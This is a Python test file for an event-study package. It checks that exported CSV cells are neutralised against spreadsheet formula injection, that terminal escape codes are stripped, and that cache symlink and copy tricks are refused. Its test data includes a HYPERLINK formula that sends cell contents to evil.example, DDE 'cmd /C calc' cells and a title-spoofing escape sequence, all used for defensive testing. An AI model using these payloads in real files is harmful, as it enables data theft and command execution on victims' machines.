"""Output hygiene: spreadsheet formulas neutralised, terminal escapes shown, cache entries checked."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import eventstudy as es
from eventstudy.cli import app
from eventstudy.csvsafe import neutralise, neutralise_frame, restore, restore_frame
from eventstudy.errors import PricesError
from eventstudy.sources.cache import CacheCorruptError, PriceCache

runner = CliRunner()
NUMBER_OR_WINDOW = re.compile(r"^[+-]?(\d+(\.\d*)?([eE][+-]?\d+)?|\d+:[+-]?\d+)$")
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("-1:+1", "-1:+1"),
        ("+5", "+5"),
        ("-0.25", "-0.25"),
        ("1e-5", "1e-5"),
        ("plain title", "plain title"),
        ("", ""),
    ],
)
def test_neutralise_rules_and_exact_inverse(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe
    assert restore(safe) == cell


def test_numbers_are_untouched() -> None:
    df = pd.DataFrame({"x": [-1.5, 2.0], "n": [-3, 4], "t": ["=a", "b"]})
    out = neutralise_frame(df)
    assert out["x"].tolist() == [-1.5, 2.0] and out["n"].tolist() == [-3, 4]
    assert out["t"].tolist() == ["'=a", "b"]
    pd.testing.assert_frame_equal(restore_frame(out), df)


def _prices(path: Path, cols: tuple[str, ...]) -> Path:
    rng = np.random.default_rng(3)
    n = 400
    d = pd.bdate_range("2020-01-01", periods=n)
    data = {"date": d.strftime("%Y-%m-%d")}
    for c in cols:
        data[c] = (100 * np.exp(np.cumsum(rng.normal(0, 0.01, n)))).round(4)
    pd.DataFrame(data).to_csv(path, index=False)
    return path


def test_every_csv_of_a_study_is_neutralised_and_reads_back(tmp_path: Path) -> None:
    ev = tmp_path / "ev.csv"
    with ev.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["event_id", "timestamp", "title", "notes"])
        w.writerow(["e1", "2021-03-04T12:00Z", HOSTILE_TITLE, "@cmd"])
        w.writerow(["e2", "2021-06-10", "-x", "+y"])
    _prices(tmp_path / "px.csv", ("AAA", "=BBB"))
    out = tmp_path / "o"
    r = runner.invoke(
        app, ["run", "--events", str(ev), "--prices", str(tmp_path / "px.csv"), "--out", str(out)]
    )
    assert r.exit_code == 0, r.stderr
    for f in sorted(out.glob("*.csv")):
        with f.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell or cell[0] not in "=@\t\r" or cell.startswith("'"), (f.name, cell)
                    if cell[:1] and cell[0] in "+-":
                        assert cell.startswith("'") or NUMBER_OR_WINDOW.match(cell), (f.name, cell)
    car = pd.read_csv(out / "car.csv")
    assert "'=BBB" in set(car["symbol"])
    assert pd.api.types.is_float_dtype(car["car"])  # numbers stay numbers
    back = es.StudyResult.load(out)
    assert HOSTILE_TITLE in set(back.events.table["title"])
    assert "=BBB" in set(back.car()["symbol"])


def test_terminal_escapes_in_titles_never_reach_the_terminal(tmp_path: Path) -> None:
    ev = tmp_path / "ev.csv"
    ev.write_text(
        "event_id,timestamp,title\ne1,2021-03-04T12:00Z,\x1b]0;pwned\x07\x1b[2J red \x1b[31mtitle\n"
    )
    r = runner.invoke(app, ["events", "list", str(ev)])
    assert r.exit_code == 0
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "\\x1b[31mtitle" in r.stdout


def test_error_messages_stay_one_line_with_a_newline_in_a_header(tmp_path: Path) -> None:
    (tmp_path / "px.csv").write_text('date,"A\nB\x1b[31m"\n2020-01-01,1\n')
    (tmp_path / "ev.csv").write_text("event_id,timestamp,title\ne1,2021-03-04T12:00Z,t\n")
    r = runner.invoke(
        app, ["run", "--events", str(tmp_path / "ev.csv"), "--prices", str(tmp_path / "px.csv")]
    )
    assert r.exit_code == 1
    assert len(r.stderr.strip().splitlines()) == 1 and "\x1b" not in r.stderr


def _entry(cache: PriceCache, symbol: str) -> None:
    closes = pd.Series([1.0, 2.0, 3.0], index=pd.bdate_range("2024-01-01", periods=3))
    with cache.locked(symbol):
        cache.write(symbol, closes, [(closes.index[0], closes.index[-1])])


def test_cache_entry_copied_from_another_symbol_is_refused(tmp_path: Path) -> None:
    cache = PriceCache(tmp_path)
    _entry(cache, "^GDAXI")
    shutil.copy(cache.data_path("^GDAXI"), cache.data_path("^HSI"))
    shutil.copy(cache.meta_path("^GDAXI"), cache.meta_path("^HSI"))
    with cache.locked("^HSI"), pytest.raises(CacheCorruptError, match="belongs to '\\^GDAXI'"):
        cache.read("^HSI")
    with cache.locked("^GDAXI"):
        entry = cache.read("^GDAXI")
    assert entry is not None and len(entry.closes) == 3


def test_cache_lock_is_never_opened_through_a_symlink(tmp_path: Path) -> None:
    cache = PriceCache(tmp_path)
    cache.directory.mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    cache.lock_path("^HSI").symlink_to(victim)
    with pytest.raises(PricesError, match="symbolic link"), cache.locked("^HSI"):
        pass
    assert victim.read_text() == "do not touch\n"


def test_cache_data_symlinked_to_a_device_is_corrupt_not_a_hang(tmp_path: Path) -> None:
    cache = PriceCache(tmp_path)
    _entry(cache, "^HSI")
    cache.data_path("^HSI").unlink()
    cache.data_path("^HSI").symlink_to("/dev/zero")
    with cache.locked("^HSI"), pytest.raises(CacheCorruptError):
        cache.read("^HSI")
